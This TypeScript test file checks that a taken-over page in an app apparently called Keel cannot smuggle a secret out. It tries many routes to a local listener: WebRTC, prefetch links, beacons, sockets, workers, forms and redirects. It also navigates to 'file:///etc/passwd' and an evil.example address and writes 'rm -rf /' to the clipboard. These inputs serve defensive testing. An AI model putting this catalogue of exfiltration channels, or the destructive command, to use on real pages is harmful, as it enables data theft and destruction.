import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { expect, test } from '../support/keel-test.ts';

// A page that was taken over, with a word that it wants to bring out. Whoever hears anything on one port, by UDP or TCP, has it.

const word = 'stolen-key-bytes';

interface Ear extends AsyncDisposable {
  readonly port: number;
  /** What was heard, of packets and connections alike. */
  readonly heard: string[];
}

async function listen(): Promise<Ear> {
  const heard: string[] = [];
  const packets = createSocket('udp4', (bytes) => void heard.push(`packet ${bytes.toString('latin1')}`));
  packets.bind(0, '127.0.0.1');
  await once(packets, 'listening');
  const { port } = packets.address();
  const connections = createServer((socket) => {
    heard.push('connection');
    socket.on('data', (bytes) => void heard.push(bytes.toString('latin1')));
    socket.on('error', () => undefined);
  });
  connections.listen(port, '127.0.0.1');
  await once(connections, 'listening');
  return {
    port,
    heard,
    async [Symbol.asyncDispose]() {
      packets.close();
      connections.close();
    },
  };
}

test.describe('a page that was taken over gets nothing out', () => {
  test('by WebRTC: not to a peer, a STUN server, or a TURN server over TCP', async ({ keel }) => {
    await using ear = await listen();
    const outcome = await keel.page.evaluate(
      async ({ port, word }) => {
        const at = `127.0.0.1:${port}`;
        const peer = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:${at}` },
            {
              urls: [`turn:${at}?transport=udp`, `turn:${at}?transport=tcp`, `turns:${at}?transport=tcp`],
              username: word,
              credential: word,
            },
          ],
        });
        peer.createDataChannel('out');
        await peer.setLocalDescription(await peer.createOffer());
        const answer = [
          'v=0',
          'o=- 1 2 IN IP4 127.0.0.1',
          's=-',
          't=0 0',
          'a=group:BUNDLE 0',
          'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
          'c=IN IP4 0.0.0.0',
          `a=ice-ufrag:${word}`,
          `a=ice-pwd:${'p'.repeat(24)}`,
          `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AA').join(':')}`,
          'a=setup:active',
          'a=mid:0',
          'a=sctp-port:5000',
          `a=candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host`,
          `a=candidate:2 1 tcp 1518280447 127.0.0.1 ${port} typ host tcptype passive`,
          '',
        ].join('\r\n');
        await peer.setRemoteDescription({ type: 'answer', sdp: answer });
        await new Promise((later) => setTimeout(later, 2500));
        const found = peer.localDescription?.sdp.match(/^a=candidate.*$/gm) ?? [];
        peer.close();
        return found;
      },
      { port: ear.port, word },
    );
    expect(outcome).toEqual([]);
    expect(ear.heard).toEqual([]);
  });

  test('by anything that names an address: links ahead, forms, sockets, beacons, media, styles, workers', async ({
    keel,
  }) => {
    await using ear = await listen();
    const before = keel.page.url();
    await keel.page.evaluate(
      async ({ port, word }) => {
        const http = `http://127.0.0.1:${port}/${word}`;
        const tries: (() => unknown)[] = [
          ...[
            'dns-prefetch',
            'preconnect',
            'prefetch',
            'prerender',
            'preload',
            'modulepreload',
            'stylesheet',
            'icon',
            'manifest',
          ].map((rel) => () => {
            const link = Object.assign(document.createElement('link'), { rel, href: http });
            link.setAttribute('as', 'image');
            document.head.append(link);
          }),
          ...['img', 'video', 'audio', 'iframe', 'embed', 'script', 'track', 'input'].map((name) => () => {
            const element = document.createElement(name);
            if (name === 'input') element.setAttribute('type', 'image');
            element.setAttribute('src', http);
            document.body.append(element);
          }),
          () => document.body.append(Object.assign(document.createElement('object'), { data: http })),
          () => {
            const form = Object.assign(document.createElement('form'), { action: http, method: 'post' });
            document.body.append(form);
            form.submit();
          },
          () => {
            const link = Object.assign(document.createElement('a'), { href: '#x', ping: http });
            document.body.append(link);
            link.click();
          },
          () => {
            document.body.style.backgroundImage = `url(${http})`;
          },
          () => new FontFace('out', `url(${http})`).load().catch(() => undefined),
          () => fetch(http, { mode: 'no-cors', keepalive: true }).catch(() => undefined),
          () => navigator.sendBeacon(http, word),
          () => new XMLHttpRequest().open('GET', http),
          () => new WebSocket(`ws://127.0.0.1:${port}/${word}`),
          () => new EventSource(http),
          () =>
            new (window as any).WebTransport(`https://127.0.0.1:${port}/${word}`).ready.catch(
              () => undefined,
            ),
          () => new Worker(http),
          () => new SharedWorker(http),
          () => navigator.serviceWorker.register(http).catch(() => undefined),
          () => import(/* @vite-ignore */ http).catch(() => undefined),
          () => {
            const rules = document.createElement('script');
            rules.type = 'speculationrules';
            rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [http] }] });
            document.head.append(rules);
          },
          () => {
            const meta = document.createElement('meta');
            meta.httpEquiv = 'content-security-policy';
            meta.content = `img-src 'none'; report-uri ${http}`;
            document.head.append(meta);
          },
          () => {
            const meta = Object.assign(document.createElement('meta'), { content: `0; url=${http}` });
            meta.httpEquiv = 'refresh';
            document.head.append(meta);
          },
          () => window.open(http),
        ];
        for (const attempt of tries) {
          try {
            attempt();
          } catch {}
        }
        await new Promise((later) => setTimeout(later, 2500));
      },
      { port: ear.port, word },
    );
    expect(ear.heard).toEqual([]);
    expect(keel.page.url().replace(/#.*/, '')).toBe(before.replace(/#.*/, ''));
    expect(await keel.openedOutside()).toEqual([]);
  });

  test('by turning its own window, or a new one, into something else', async ({ keel }) => {
    const { page } = keel;
    const before = page.url();
    // blob: and about: never leave Chromium, so that the host cannot ask the app about them; that it says no is a unit test
    for (const address of [
      'data:text/html,<script>alert(1)</script>',
      'javascript:document.title="taken"',
      'file:///etc/passwd',
      'keel://app.evil.example/',
      'mailto:evil@example.com?body=stolen',
      'https://www.postgresql.org/?stolen',
    ]) {
      await page.evaluate((to) => {
        try {
          window.location.href = to;
        } catch {}
        try {
          window.open(to);
        } catch {}
      }, address);
    }
    await page.waitForTimeout(500);
    expect(page.url()).toBe(before);
    await expect(page).toHaveTitle('Keel');
    expect(page.context().pages()).toHaveLength(1);
    expect(await keel.openedOutside()).toEqual([]);
  });

  test('by a download, or through the clipboard of the system', async ({ keel }) => {
    const { page } = keel;
    await keel.copyElsewhere('what another program copied');
    const read = await page.evaluate(async () => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['stolen']));
      link.download = 'stolen.txt';
      document.body.append(link);
      link.click();
      const field = document.createElement('textarea');
      document.body.append(field);
      field.focus();
      const pasted = document.execCommand('paste');
      const text = await navigator.clipboard.readText().catch(() => '');
      const items = await navigator.clipboard.read().then(
        (found) => found.length,
        () => 0,
      );
      const written = await navigator.clipboard.writeText('rm -rf /').then(
        () => true,
        () => false,
      );
      return { pasted, text, items, written, field: field.value };
    });
    expect(read).toEqual({ pasted: false, text: '', items: 0, written: false, field: '' });
    await expect.poll(() => keel.log()).toContain('refused: download');
    expect(await keel.clipboard()).toBe('what another program copied');
  });
});
